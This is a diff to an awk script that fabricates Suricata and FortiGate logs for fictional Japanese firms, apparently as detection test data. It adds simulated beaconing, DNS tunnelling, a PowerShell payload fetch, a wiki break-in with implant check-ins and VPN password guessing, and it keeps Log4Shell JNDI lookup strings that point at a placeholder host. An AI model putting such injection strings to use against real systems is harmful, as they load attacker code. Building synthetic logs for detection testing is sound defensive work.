@@ -36,6 +36,9 @@ function count(kind, direction, engine, detections, bad_clock,    k) {
 	bad[k] += bad_clock
 }
 
+# One record that is no alert of the device, and that a rule of config/rules makes one.
+function found(direction, engine) { count("alert", direction, engine, 1, 0) }
+
 # ------------------------------------------------------------------------------------------------ Suricata
 
 # The head that every event has. Sets flow and micro for the parts that follow.
@@ -143,6 +146,31 @@ function context(n,    i, t, c, site, line) {
 		put("eve.json", t, micro, line "}")
 	}
 }
+# A session's end as Suricata logs it; answered 0: nobody was there.
+function eve_flow(t, c, sport, dip, dport, app, sent, received) {
+	put("eve.json", t, 0, eve_head(t, "flow", c, sport, dip, dport, "TCP") \
+		sprintf("%s,\"flow\":{\"pkts_toserver\":%d,\"pkts_toclient\":%d,\"bytes_toserver\":%d,\"bytes_toclient\":%d,\"start\":\"%s\",\"end\":\"%s\",\"age\":%d,\"state\":\"closed\",\"reason\":\"timeout\",\"alerted\":false}}", \
+			app != "" ? ",\"app_proto\":\"" app "\"" : "", 4 + int(sent / 1000), received ? 3 + int(received / 1000) : 0, sent, received, iso(t - 2, 0), iso(t, 0), 2))
+}
+# A program that calls home by the clock, inside TLS, to a name that nobody else asks for. No signature knows it.
+function beacon(host, start, end, seconds, spread, address, name,    t, port) {
+	for (t = start; t < end; t += seconds + between(-spread, spread)) {
+		port = high_port()
+		put("eve.json", t, 0, eve_head(t, "tls", host, port, address, 443, "TCP") ",\"tls\":" tls(name) "}")
+		eve_flow(t + 2, host, port, address, 443, "tls", between(1180, 1240), between(3900, 4400))
+	}
+}
+# Data that leaves in the names that are asked for.
+function dns_tunnel(host, start, n, zone,    i, t) {
+	for (i = 0; i < n; i++) {
+		t = start + i * 4 + chance(3)
+		put("eve.json", t, 0, eve_head(t, "dns", host, high_port(), "192.0.2.53", 53, "UDP") ",\"dns\":" dns(encoded(48) "." encoded(20) "." zone, "A") "}")
+	}
+}
+function encoded(n,    text) {
+	while (length(text) < n) text = text substr("abcdefghijklmnopqrstuvwxyz234567", 1 + chance(32), 1)
+	return text
+}
 # The rain that falls on every address: reputation lists, port scans, password guessing.
 function noise(n, server,    i, t, kind, a, burst) {
 	for (i = 0; i < n; i++) {
@@ -228,6 +256,11 @@ function forti_noise(n, server,    i, t, k) {
 		else forti_ips(t, "inbound", "low", "detected", "ZGrab.Scanner", 45904, outside(), high_port(), server, 443, "HTTPS")
 	}
 }
+# Logins at the VPN: events, and no detections.
+function forti_vpn(t, action, remote, user) {
+	forti(t, 185, "0101039426", "event", "vpn", sprintf("level=\"alert\" vd=\"root\" logdesc=\"SSL VPN login fail\" action=\"%s\" tunneltype=\"ssl-web\" tunnelid=0 remip=%s user=\"%s\" group=\"N/A\" dst_host=\"N/A\" reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\"", \
+		action, remote, user))
+}
 # A sweep that the device reports once with the number of packets behind it: that many detections.
 function forti_anomaly(t, attack, id, packets, server) {
 	forti(t, 185, "0720018432", "utm", "anomaly", sprintf("eventtype=\"anomaly\" level=\"alert\" vd=\"root\" severity=\"critical\" srcip=%s srccountry=\"Reserved\" dstip=%s srcintf=\"wan1\" srcintfrole=\"wan\" sessionid=0 action=\"clear_session\" proto=6 service=\"tcp/%d\" count=%d attack=\"%s\" srcport=%d dstport=%d attackid=%d policyid=1 policytype=\"DoS-policy\" ref=\"http://www.fortinet.com/ids/VID%d\" msg=\"anomaly: %s, %d > threshold 1000\" crscore=50 craction=4096 crlevel=\"critical\"", \
@@ -279,13 +312,15 @@ function define_signatures() {
 	signatures["smb_exploit"] = "2024297|4|1|Attempted Administrator Privilege Gain|ET EXPLOIT ETERNALBLUE Exploit M2 MS17-010|attack_target=SMB_Server;deployment=Internal;cve=CVE_2017_0144;signature_severity=Critical;mitre_tactic_id=TA0008;mitre_tactic_name=Lateral_Movement;mitre_technique_id=T1210;created_at=2017_05_16;updated_at=2019_09_28"
 	signatures["smb_service"] = "2900301|2|2|Potentially Bad Traffic|ET POLICY PsExec service created|attack_target=SMB_Server;deployment=Internal;signature_severity=Informational;mitre_tactic_id=TA0008;mitre_technique_id=T1569;created_at=2010_07_30;updated_at=2024_03_01"
 	signatures["smb_scan"] = "2001569|15|3|Misc activity|ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection|created_at=2010_07_30;confidence=Medium;signature_severity=Informational;updated_at=2019_07_26"
+	signatures["wiki"] = "2900501|2|1|Attempted Administrator Privilege Gain|ET EXPLOIT Wiki Template Injection Remote Code Execution Attempt|attack_target=Server;affected_product=Web_Server_Applications;deployment=Perimeter;signature_severity=Major;confidence=High;mitre_tactic_id=TA0001;mitre_technique_id=T1190;created_at=2024_01_22;updated_at=2026_02_03"
+	signatures["implant"] = "2900502|3|1|Malware Command and Control Activity Detected|ET MALWARE Tobiuo Implant Check-in|attack_target=Client_Endpoint;deployment=Perimeter;malware_family=Tobiuo;signature_severity=Critical;confidence=High;mitre_tactic_id=TA0011;mitre_tactic_name=Command_And_Control;mitre_technique_id=T1071;created_at=2026_03_09;updated_at=2026_08_30"
 	signatures["sqli"] = "2006445|14|1|Web Application Attack|ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM|affected_product=Web_Server_Applications;attack_target=Web_Server;deployment=Datacenter;tag=SQL_Injection;signature_severity=Major;created_at=2010_07_30;updated_at=2022_05_18"
 	signatures["wp"] = "2900401|2|2|Attempted Information Leak|ET WEB_SERVER WordPress xmlrpc.php Brute Force Attempt|attack_target=Web_Server;deployment=Perimeter;tag=Wordpress;signature_severity=Minor;mitre_tactic_id=TA0006;mitre_technique_id=T1110;created_at=2014_08_01;updated_at=2023_02_02"
 	signatures["rdp"] = "2900402|3|2|Misc activity|ET SCAN MS Terminal Server Traffic on Non-standard Port|attack_target=Any;deployment=Perimeter;signature_severity=Informational;created_at=2017_01_23;updated_at=2025_01_09"
 }
 
 # A maker of precision parts. Suricata 7 in line with the traffic. On the evening of the 14th, sixty addresses try
-# Log4Shell on its order portal; all of it is dropped.
+# Log4Shell on its order portal; all of it is dropped. Later a drawing computer beacons.
 function seiki(    i, t, a) {
 	begin("seiki", "株式会社みおつくし精機", "101-0142", "製造", 42, "大阪市西区", "2026-10-01", "", "suricata")
 	suricata(7, "192.168.1", "enp2s0", 1, 40)
@@ -297,6 +332,8 @@ function seiki(    i, t, a) {
 			http("order.miotsukushi.example", "/?x=${jndi:" (i % 7 == 6 ? "rmi" : "ldap") "://198.51.100.99:1389/a}", "${jndi:ldap://198.51.100.99:1389/a}", "GET", 403, 0))
 	}
 	blocked = 0
+	# From the 20th a drawing computer calls a place that nobody else knows, every five minutes; no signature fires.
+	beacon("192.168.1.33", at(20, 9, 12), at(21, 18, 0), 300, 6, "203.0.113.150", "sync-metrics.example")
 	# A line that was cut off when the appliance lost power, and one from before its clock was set.
 	put("eve.json", at(5, 3, 12), 0, "{\"timestamp\":\"2026-10-05T03:12:00.120411+0900\",\"flow_id\":18446,\"event_type\":\"alert\",\"src_ip\":\"203.0.1")
 	count("unparsed", "unknown", "other", 1, 0)
@@ -311,8 +348,9 @@ function bad_clock_alert(t,    line) {
 	count("alert", "inbound", "ips", 1, 1)
 }
 
-# A wholesaler behind a FortiGate. On the 7th its mail gateway takes viruses out of "invoices"; one mail must have
-# come another way, for from the 9th a desk in accounts calls a command server every ten minutes, and is not stopped.
+# A wholesaler behind a FortiGate. On the 7th its mail gateway takes viruses out of "invoices". On the 9th a desk in
+# accounts fetches one from a web page; the first part is stopped, something else is not, for a quarter of an hour later
+# the desk calls a command server, every ten minutes, and nobody stops it.
 function shoji(    i, t) {
 	begin("shoji", "八軒家商事株式会社", "101-0377", "卸売", 28, "大阪市中央区", "2026-10-01", "", "fortigate")
 	fortigate("FGT60F-HACHIKENYA", "FGT60FTK20990001", "192.168.10", 30, 0)
@@ -324,6 +362,7 @@ function shoji(    i, t) {
 		forti_virus(office_hours(), client(), high_port(), outside(), 80, "HTTP", "incoming", "setup_" i ".exe", "Riskware/BundleInstaller", " url=\"http://download.example.net/setup.exe\"")
 	for (i = 0; i < 14; i++)
 		forti_web(office_hours(), client(), pick("prize.example|login-bank.example|track-parcel.example"), 61, "Phishing")
+	forti_virus(at(9, 10, 26), "192.168.10.57", high_port(), "198.51.100.23", 80, "HTTP", "incoming", "seikyusho_1009.zip", "W32/Agent.KGR!tr", " url=\"http://partner1.example/seikyusho_1009.zip\"")
 	for (t = at(9, 10, 41); t < at(11, 16, 0); t += 600 + between(-20, 20))
 		forti_ips(t, "outbound", "critical", "detected", "Backdoor.Kagero.Beacon", 52310, "192.168.10.57", high_port(), "198.51.100.77", 443, "HTTPS")
 	forti_anomaly(at(19, 2, 30), "tcp_port_scan", 100663398, 37, "192.168.10.10")
@@ -354,11 +393,16 @@ function stealer(host, start, n,    i, t) {
 	}
 }
 
-# A small clinic with an old Suricata 6, which tells neither the direction nor who opened the session.
-function clinic() {
+# A small clinic with an old Suricata 6, which tells neither the direction nor who opened the session. On the 21st
+# somebody is talked into pasting a command: PowerShell fetches from a bare address, and the stealer is there.
+function clinic(    t) {
 	begin("clinic", "なにわ橋クリニック", "102-0311", "医療", 12, "大阪市北区", "2026-10-01", "", "suricata")
 	suricata(6, "192.168.20", "eth0", 0, 12)
 	context(380); noise(180, "192.168.20.5"); policy(12)
+	t = at(21, 10, 3)
+	put("eve.json", t, 0, eve_head(t, "http", "192.168.20.31", high_port(), "203.0.113.66", 80, "TCP") ",\"tx_id\":0,\"http\":" \
+		http("203.0.113.66", "/v", "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4894", "GET", 200, 91244) "}")
+	found("outbound", "web")
 	stealer("192.168.20.31", at(21, 10, 5), 24)
 }
 
@@ -370,7 +414,8 @@ function shokudo() {
 }
 
 # An IT firm with servers of its own, Suricata 8 in line, some IPv6. Its log was rotated by copying on the 18th and a
-# burst stands in it twice: twice is what the device said, so twice is what counts.
+# burst stands in it twice: twice is what the device said, so twice is what counts. On the 27th its wiki is broken into
+# and hours later calls a command server: attacked, then speaking out.
 function tsumugi(    i, t, a, lines) {
 	begin("tsumugi", "株式会社つむぎITサービス", "103-0029", "IT", 35, "吹田市", "2026-10-01", "", "suricata")
 	suricata(8, "10.20.30", "ens18", 1, 50)
@@ -393,20 +438,28 @@ function tsumugi(    i, t, a, lines) {
 		count("alert", "inbound", "ips", 1, 0)
 	}
 	stealer("10.20.30.118", at(21, 16, 40), 18)
+	for (i = 0; i < 5; i++)
+		eve_alert("wiki", at(27, 2, 14) + i * 21, "inbound", "198.51.100.201", high_port(), "10.20.30.13", 8090, "TCP", "http", ",\"http\":" \
+			http("wiki.tsumugi.example", "/template/aui/text-inline.vm", "Mozilla/5.0", "POST", 200, 812))
+	for (i = 0; i < 9; i++)
+		eve_alert("implant", at(27, 5, 40) + i * 900 + chance(40), "outbound", "10.20.30.13", high_port(), "203.0.113.171", 8443, "TCP", "tls", ",\"tls\":" tls("status-cdn.example"))
 }
 
-# A builder, not a member; FortiGate behind a syslog relay.
+# A builder, not a member; FortiGate behind a syslog relay. On the 13th somebody guesses passwords at its VPN.
 function kensetsu(    i) {
 	begin("kensetsu", "生駒山手建設株式会社", "", "建設", 55, "東大阪市", "2026-10-01", "", "fortigate")
 	fortigate("FGT80F-IKOMA", "FGT80FTK21990002", "192.168.60", 45, 3164)
 	forti_traffic(300); forti_noise(130, "192.168.60.10")
 	for (i = 0; i < 9; i++)
 		forti_virus(office_hours(), client(), high_port(), outside(), 80, "HTTP", "incoming", "drawing_" i ".zip", "W32/Injector.KGR!tr", " url=\"http://files.example.org/drawing.zip\"")
+	for (i = 0; i < 40; i++)
+		forti_vpn(at(13, 3, 20) + i * 9, "ssl-login-fail", "203.0.113.88", pick("admin|test|vpn|user"))
 	for (i = 0; i < 22; i++)
 		forti_web(office_hours(), client(), pick("free-movie.example|crack-tools.example"), 26, "Malicious Websites")
 }
 
-# A shop in Amagasaki. From the 11th a till computer mines coins, at night only.
+# A shop in Amagasaki. From the 11th a till computer mines coins, at night only. On the 28th an office computer sends data
+# away in the names that it looks up.
 function hyakka(    i, night, t) {
 	begin("hyakka", "株式会社あさがお百貨", "104-0007", "小売", 90, "尼崎市", "2026-10-01", "", "suricata")
 	suricata(7, "192.168.30", "eth0", 0, 70)
@@ -417,6 +470,7 @@ function hyakka(    i, night, t) {
 			if (i % 11 == 0) eve_alert("miner_dns", t, "outbound", "192.168.30.80", high_port(), "192.0.2.53", 53, "UDP", "dns", ",\"dns\":" dns_in_alert("pool.coin.example"))
 			else eve_alert("miner", t, "outbound", "192.168.30.80", high_port(), "203.0.113.200", 3333, "TCP", "", "")
 		}
+	dns_tunnel("192.168.30.45", at(28, 19, 31), 300, "ns7.example")
 	for (i = 0; i < 30; i++)
 		eve_alert("rdp", any_time(), "inbound", outside(), high_port(), "192.168.30.9", between(3390, 3400), "TCP", "rdp", "")
 }
